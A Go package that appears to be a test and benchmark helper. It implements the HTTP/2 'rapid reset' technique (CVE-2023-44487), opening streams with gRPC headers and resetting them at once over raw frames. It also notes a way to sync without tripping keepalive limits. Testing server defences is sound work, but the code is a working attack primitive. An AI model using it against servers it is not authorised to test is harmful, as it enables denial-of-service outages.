// Package rapidreset is an HTTP/2 client that opens streams and resets them
// at once ("rapid reset", CVE-2023-44487), for tests and benchmarks of a
// server's defence against it. It speaks raw frames (golang.org/x/net/http2's
// Framer): no gRPC client would send this.
package rapidreset

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Conn is one HTTP/2 connection over TLS.
type Conn struct {
	conn   net.Conn
	fr     *http2.Framer
	enc    *hpack.Encoder
	buf    bytes.Buffer
	next   uint32
	acks   chan struct{}
	closed chan struct{}
}

// Dial connects to addr over TLS, offering only h2, sends the client
// preface and settings, and waits for the server to acknowledge them. A
// goroutine reads (and drops) what the server sends, until the connection
// ends.
func Dial(addr string, conf *tls.Config) (*Conn, error) {
	conf = conf.Clone()
	conf.NextProtos = []string{"h2"}
	conn, err := tls.Dial("tcp", addr, conf)
	if err != nil {
		return nil, err
	}
	c := &Conn{conn: conn, fr: http2.NewFramer(conn, nil), next: 1, acks: make(chan struct{}, 1), closed: make(chan struct{})}
	c.enc = hpack.NewEncoder(&c.buf)
	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
		conn.Close()
		return nil, err
	}
	go func() {
		defer close(c.closed)
		r := http2.NewFramer(nil, conn)
		for {
			f, err := r.ReadFrame()
			if err != nil {
				return
			}
			if s, ok := f.(*http2.SettingsFrame); ok && s.IsAck() {
				select {
				case c.acks <- struct{}{}:
				default:
				}
			}
		}
	}()
	if err := c.Sync(10 * time.Second); err != nil {
		conn.Close()
		return nil, err
	}
	return c, nil
}

// Reset opens a stream with a gRPC call's headers for path (POST, no
// body) and resets it at once (RST_STREAM, CANCEL).
func (c *Conn) Reset(path string) error {
	c.buf.Reset()
	for _, f := range [][2]string{
		{":method", "POST"}, {":scheme", "https"}, {":path", path}, {":authority", "localhost"},
		{"content-type", "application/grpc"}, {"te", "trailers"},
	} {
		if err := c.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
			return err
		}
	}
	id := c.next
	c.next += 2
	if err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.buf.Bytes(), EndHeaders: true}); err != nil {
		return fmt.Errorf("rapidreset: stream %d: %w", id, err)
	}
	if err := c.fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
		return fmt.Errorf("rapidreset: stream %d: %w", id, err)
	}
	return nil
}

// Sync sends a SETTINGS frame and waits for its acknowledgement: the
// server has then read every frame sent before it. (Not a PING: gRPC
// servers count PINGs against their keepalive policy and close a
// connection that sends too many.) It fails if the connection ends or
// timeout passes first.
func (c *Conn) Sync(timeout time.Duration) error {
	if err := c.fr.WriteSettings(); err != nil {
		return err
	}
	t := time.NewTimer(timeout)
	defer t.Stop()
	select {
	case <-c.acks:
		return nil
	case <-c.closed:
		return net.ErrClosed
	case <-t.C:
		return fmt.Errorf("rapidreset: no SETTINGS acknowledgement in %s", timeout)
	}
}

// Closed is closed once the connection has ended: the server closed it,
// or Close was called.
func (c *Conn) Closed() <-chan struct{} { return c.closed }

// Close closes the connection.
func (c *Conn) Close() error { return c.conn.Close() }
